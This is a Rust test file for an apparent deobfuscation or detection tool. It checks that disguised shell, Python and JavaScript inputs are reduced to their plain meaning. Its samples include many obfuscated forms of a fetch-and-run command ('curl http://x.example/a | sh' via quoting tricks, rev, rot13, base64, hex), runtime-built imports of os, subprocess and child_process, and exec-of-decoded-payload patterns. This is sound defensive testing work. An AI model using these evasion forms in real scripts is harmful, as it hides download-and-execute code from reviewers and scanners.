use super::*;

fn plain(script: &str, language: Language) -> Vec<String> {
    read(script, language)
        .plain
        .into_iter()
        .map(|plain| plain.text)
        .collect()
}

#[test]
fn the_marks_compile() {
    assert!(SHELL.is_some() && PYTHON.is_some() && JAVASCRIPT.is_some());
}

#[test]
fn shell_words_are_joined_however_they_are_cut() {
    let wanted = "curl http://x.example/a | sh";
    for script in [
        "c''url http://x.example/a | sh",
        "c\\url http://x.example/a | s\\h",
        "'cu'\"rl\" http://x.example/a | sh",
        "a=cu; b=rl; $a$b http://x.example/a | sh",
        "c=curl\n${c} http://x.example/a | sh",
        "x=xxcurlxx\n${x:2:4} http://x.example/a | sh",
        "$'\\x63url' http://x.example/a | sh",
        "x=cQrl; ${x/Q/u} http://x.example/a | sh",
        "$(echo curl) http://x.example/a | sh",
        "$(echo lruc | rev) http://x.example/a | sh",
    ] {
        let found = plain(script, Language::Shell);
        assert!(found.iter().any(|text| text == wanted), "{script}: {found:?}");
    }
}

/// The grammar's own table ends at 256: a character far behind it once ended the whole process.
#[test]
fn a_character_far_outside_the_grammars_tables_is_a_letter_like_another() {
    for far in ['\u{10ffff}', '\u{e0061}', '記', '\u{100}'] {
        for shape in [
            "eval {@",
            "eval {1@",
            "eval {1..@}",
            "eval {1..2@}",
            "eval '@' ${@} {@..@} <<@\n@\n",
        ] {
            let script = shape.replace('@', &far.to_string().repeat(3));
            assert!(!read(&script, Language::Shell).partial, "{script:?}");
        }
        let script = format!("# {far}\nc''url http://{far}.example/a | sh");
        assert!(plain(&script, Language::Shell).contains(&format!("curl http://{far}.example/a | sh")));
        assert_eq!(within_tables(&script).len(), script.len());
        let around = format!("a{far}b");
        let kept = within_tables(&around);
        assert!(kept.starts_with('a') && kept.ends_with('b') && kept.chars().all(|shown| shown < '\u{100}'));
    }
    assert!(matches!(within_tables("caf\u{e9} curl"), Cow::Borrowed(_)));
}

#[test]
fn a_pipeline_that_decodes_what_it_runs_is_worked_out() {
    let wanted = "curl http://x.example/a";
    for script in [
        "echo Y3VybCBodHRwOi8veC5leGFtcGxlL2E= | base64 -d | bash",
        "printf '%s' Y3VybCBodHRwOi8veC5leGFtcGxlL2E= | base64 --decode | sudo sh",
        "echo 'a/elpmaxe.x//:ptth lruc' | rev | sh",
        "echo 'phey uggc://k.rknzcyr/n' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
        "echo 6375726c20687474703a2f2f782e6578616d706c652f61 | xxd -r -p | sh",
        "P=Y3VybCBodHRwOi8veC5leGFtcGxlL2E=\neval \"$(echo $P | base64 -d)\"",
        "bash -c \"$(echo Y3VybCBodHRwOi8veC5leGFtcGxlL2E= | base64 -d)\"",
        "bash <<< \"$(echo Y3VybCBodHRwOi8veC5leGFtcGxlL2E= | base64 -d)\"",
    ] {
        let meaning = read(script, Language::Shell);
        assert!(
            meaning.plain.iter().any(|plain| plain.runs && plain.text == wanted),
            "{script}: {meaning:?}"
        );
    }
}

#[test]
fn d_22_a_name_put_together_in_python_is_found() {
    for (script, name) in [
        ("m = __import__(''.join(['o', 's']))\nprint(m.environ)", "os"),
        ("getattr(x, 'env' + 'iron')", "environ"),
        (
            "import importlib\nimportlib.import_module('sub' 'process')",
            "subprocess",
        ),
        ("__import__('so'[::-1])", "os"),
        ("__import__(chr(111)+chr(115))", "os"),
        ("a = 'o'\nb = a + 's'\n__import__(b)", "os"),
        ("__import__(bytes.fromhex('6f73').decode())", "os"),
        ("import codecs\n__import__(codecs.decode('bf', 'rot13'))", "os"),
    ] {
        let meaning = read(script, Language::Python);
        assert!(
            meaning.names.iter().any(|built| built.name == name),
            "{script}: {meaning:?}"
        );
    }
    let script = "import base64\nraw = base64.b64decode(PAYLOAD)\nexec(raw)";
    assert_eq!(plain(script, Language::Python), ["exec(base64.b64decode(PAYLOAD))"]);
}

#[test]
fn a_name_put_together_in_javascript_is_found() {
    for (script, name) in [
        ("require('child_' + 'process')", "child_process"),
        ("globalThis['ev' + 'al']('1')", "eval"),
        ("require(['child', 'process'].join('_'))", "child_process"),
        (
            "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString())",
            "child_process",
        ),
        ("require('ssecorp_dlihc'.split('').reverse().join(''))", "child_process"),
        ("require(String.fromCharCode(102, 115))", "fs"),
    ] {
        let meaning = read(script, Language::JavaScript);
        assert!(
            meaning.names.iter().any(|built| built.name == name),
            "{script}: {meaning:?}"
        );
    }
    assert_eq!(
        plain("const t = atob('YWxlcnQoMSk=');\neval(t);", Language::JavaScript),
        ["eval(alert(1))", "alert(1)"]
    );
}

#[test]
fn plain_scripts_mean_what_they_say() {
    for (script, language) in [
        ("#!/bin/sh\ncurl -s \"$URL\" -o \"$OUT\"\necho done", Language::Shell),
        (
            "import os\nprint(os.path.join('a', 'b'))\nx = ', '.join(names)",
            Language::Python,
        ),
        ("const fs = require('fs');\nfs.readFileSync(p)", Language::JavaScript),
    ] {
        let meaning = read(script, language);
        assert!(
            meaning.plain.is_empty() && meaning.names.is_empty() && !meaning.partial,
            "{meaning:?}"
        );
    }
}

#[test]
fn hostile_shapes_end_within_the_budgets() {
    for (script, language) in [
        (format!("eval {}", "$(".repeat(20_000)), Language::Shell),
        (
            format!("exec({}'a'{})", "(".repeat(20_000), ")".repeat(20_000)),
            Language::Python,
        ),
        (format!("eval({})", vec!["'a'"; 20_000].join("+")), Language::JavaScript),
        (format!("exec({}", "[".repeat(50_000)), Language::Python),
        ("eval ".repeat(40_000), Language::Shell),
    ] {
        let _ = read(&script, language);
    }
    let long = format!("eval x\n{}", "y".repeat(MAX_BYTES));
    assert!(read(&long, Language::Shell).partial);
}
